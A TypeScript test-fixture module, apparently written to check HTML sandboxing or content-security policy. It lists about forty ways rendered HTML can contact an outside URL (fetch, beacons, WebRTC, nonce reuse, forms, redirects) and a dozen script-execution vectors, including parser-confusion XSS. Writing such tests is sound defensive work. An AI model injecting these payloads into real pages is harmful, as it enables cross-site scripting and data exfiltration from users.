/** Inserts an address into HTML for `URL`, and its host for `HOST`. */
export function aimedAt(url: string, html: string): string {
  // `URL.createObjectURL` is not a placeholder.
  return html.replaceAll(/URL(?!\.)/g, url).replaceAll('HOST', new URL(url).host);
}

/** Ways in which a hostile result may try to reach the service or another host. */
export const ATTEMPTS: readonly (readonly [way: string, html: string])[] = [
  ['fetch', '<script>fetch("URL", { method: "POST", mode: "no-cors", body: "x" })</script>'],
  ['XMLHttpRequest', '<script>r = new XMLHttpRequest(); r.open("GET", "URL"); r.send()</script>'],
  ['a WebSocket', '<script>new WebSocket("URL".replace("http", "ws"))</script>'],
  ['an EventSource', '<script>new EventSource("URL")</script>'],
  ['sendBeacon', '<script>navigator.sendBeacon("URL", "x")</script>'],
  ['an image', '<img src="URL"><img srcset="URL 2x">'],
  ['an image of a script', '<script>new Image().src = "URL"</script>'],
  [
    'a picture of a style',
    '<style>body { background: url(URL) }</style><p style="background: url(URL)">x',
  ],
  ['an imported style', '<style>@import "URL";</style>'],
  ['a style sheet', '<link rel="stylesheet" href="URL">'],
  [
    'a font',
    '<style>@font-face { font-family: f; src: url(URL) } p { font-family: f }</style><p>x',
  ],
  ['a script', '<script src="URL"></script>'],
  [
    'WebRTC',
    '<script>p = new RTCPeerConnection({ iceServers: [{ urls: "turn:HOST?transport=tcp", username: "u", credential: "c" }] }); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o))</script>',
  ],
  ['an early connection', '<link rel="preconnect" href="URL"><link rel="dns-prefetch" href="URL">'],
  [
    'a script that has the nonce',
    '<script>s = document.createElement("script"); s.nonce = document.currentScript.nonce; s.src = "URL"; document.body.append(s)</script>',
  ],
  [
    'a style sheet that has the nonce',
    '<script>s = document.createElement("link"); s.nonce = document.currentScript.nonce; s.rel = "stylesheet"; s.href = "URL"; document.body.append(s)</script>',
  ],
  ['an imported module', '<script>import("URL")</script>'],
  ['a worker', '<script>new Worker(URL.createObjectURL(new Blob(["fetch(\'URL\')"])))</script>'],
  ['a frame', '<iframe src="URL"></iframe>'],
  ['a frame in a frame', `<iframe srcdoc="<script>fetch('URL')</script><img src='URL'>"></iframe>`],
  ['an object', '<object data="URL"></object><embed src="URL">'],
  ['a film', '<video src="URL" poster="URL" autoplay></video><audio src="URL" autoplay></audio>'],
  ['a form', '<form action="URL" method="post"></form><script>document.forms[0].submit()</script>'],
  [
    'a button of a form',
    '<form action="URL"><button id="b">x</button></form><script>b.click()</script>',
  ],
  ['its own address', '<script>location = "URL"</script>'],
  ['a refresh', '<meta http-equiv="refresh" content="0; url=URL">'],
  ['a link', '<a id="a" href="URL">x</a><script>a.click()</script>'],
  [
    'a link of the whole window',
    '<a id="a" href="URL" target="_top">x</a><script>a.click()</script>',
  ],
  ['the address of the whole window', '<script>try { top.location = "URL" } catch {}</script>'],
  [
    'a new window',
    '<script>open("URL")</script><a id="a" href="URL" target="_blank">x</a><script>a.click()</script>',
  ],
  ['a base', '<base href="URL"><img src="x"><script src="y"></script>'],
  ['prefetching', '<link rel="prefetch" href="URL"><link rel="prerender" href="URL">'],
  [
    'preloading',
    '<link rel="preload" as="script" href="URL"><link rel="modulepreload" href="URL">',
  ],
  ['a manifest, an icon', '<link rel="manifest" href="URL"><link rel="icon" href="URL">'],
  ['a ping', '<a id="a" href="#" ping="URL">x</a><script>a.click()</script>'],
  ['SVG', '<svg><image href="URL"/><use href="URL#x"/><script href="URL"></script></svg>'],
  [
    'a report',
    '<meta http-equiv="Content-Security-Policy" content="default-src \'none\'; report-uri URL"><img src="data:,">',
  ],
  ['a handler', '<img src="data:," onerror="fetch(\'URL\')"><body onload="fetch(\'URL\')">'],
  [
    'an address of scripts',
    '<a id="a" href="javascript:fetch(\'URL\')">x</a><script>a.click()</script>',
  ],
  [
    'the end of its document',
    '</body></html><img src="URL"></iframe><script>fetch("URL")</script>',
  ],
];

/** Ways to run a script, which would leave a mark. */
export const SCRIPTS = [
  '<script>MARK</script>',
  '<script type="module">MARK</script>',
  '<svg><script>MARK</script></svg>',
  '<svg onload="MARK"></svg>',
  '<img src="x:" onerror="MARK">',
  '<body onload="MARK"><b onfocus="MARK" tabindex="0" autofocus>x</b>',
  '<details open ontoggle="MARK">x</details>',
  '<template shadowrootmode="open"><script>MARK</script></template>',
  '<math><annotation-xml encoding="text/html"><script>MARK</script></annotation-xml></math>',
  '<iframe srcdoc="<script>MARK</script>"></iframe>',
  '<iframe src="javascript:MARK"></iframe>',
  '<noscript><p title="</noscript><script>MARK</script>">',
] as const;
